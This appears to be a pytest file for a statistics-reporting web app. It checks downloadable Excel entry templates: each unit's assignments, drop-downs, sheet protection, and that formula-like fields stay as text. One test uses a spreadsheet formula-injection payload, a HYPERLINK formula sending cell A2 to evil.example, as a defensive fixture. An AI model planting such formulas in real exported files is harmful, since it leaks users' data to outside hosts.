"""The downloaded template lists the unit's own assignments only, with drop-downs from its lists."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from planwatch.web.monitoring.models import Observation
from tests.web.collection.conftest import TEMPLATE
from tests.web.conftest import entered


def test_county_template_has_only_the_countys_assignment(cast, assignments, template_of, client_for):
    book = template_of(cast.zhanggong)
    sheet = book["填报"]
    assert [[c.value for c in row[:5]] for row in sheet.iter_rows(min_row=2, max_row=2)] == [
        ["地区生产总值", "章贡区", "2024", None, "亿元"]]
    assert sheet["A3"].value is None
    assert [c.value for c in book["列表"]["B"][1:] if c.value] == ["章贡区"]
    assert sheet.protection.sheet and {str(dv.sqref).split(":")[0] for dv in sheet.data_validations.dataValidation} == {
        "A2", "B2", "C2", "D2", "E2", "H2"}
    response = client_for(cast.zhanggong).get(TEMPLATE)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment; filename*=UTF-8''" in response["Content-Disposition"]


def test_statistics_bureau_template_lists_its_four_indicators_for_the_city(cast, assignments, template_of):
    sheet = template_of(cast.stats_reporter)["填报"]
    assert [(r[0].value, r[1].value, r[2].value, r[4].value) for r in sheet.iter_rows(min_row=2, max_row=5)] == [
        ("地区生产总值", "赣州市", "2024", "亿元"), ("人均地区生产总值", "赣州市", "2024", "元"),
        ("常住人口", "赣州市", "2024", "万人"), ("常住人口城镇化率", "赣州市", "2024", "%")]


def test_a_prefilled_source_that_looks_like_a_formula_is_text_and_comes_back_unchanged(
    cast, assignments, small_plan, reference_data, client_for, upload
):
    """于都县's draft has a 来源 typed as a formula and a 备注 starting with +. In the pre-filled template
    both are text cells (Excel shows them, never runs them: no <f> in the sheet), and the template sent
    back as downloaded imports with 来源 and 备注 exactly as stored (not refused as a formula, no
    apostrophe added)."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
    draft = entered(cast.yudu, small_plan, reference_data.regions["于都县"], 2024, 240.5, source=evil, note="+1 见附件")
    data = client_for(cast.yudu).get(TEMPLATE).content
    sheet = openpyxl.load_workbook(io.BytesIO(data))["填报"]
    assert [(c.value, c.data_type) for c in (sheet["F2"], sheet["G2"])] == [(evil, "s"), ("+1 见附件", "s")]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert not [n for n in book.namelist() if n.startswith("xl/worksheets/") and b"<f>" in book.read(n)]
    response = upload(cast.yudu, "于都县.xlsx", data)
    assert response.status_code == 200, response.content.decode()[-1500:]
    draft = Observation.objects.get(pk=draft.pk)
    assert (draft.value, draft.source, draft.note) == (240.5, evil, "+1 见附件")
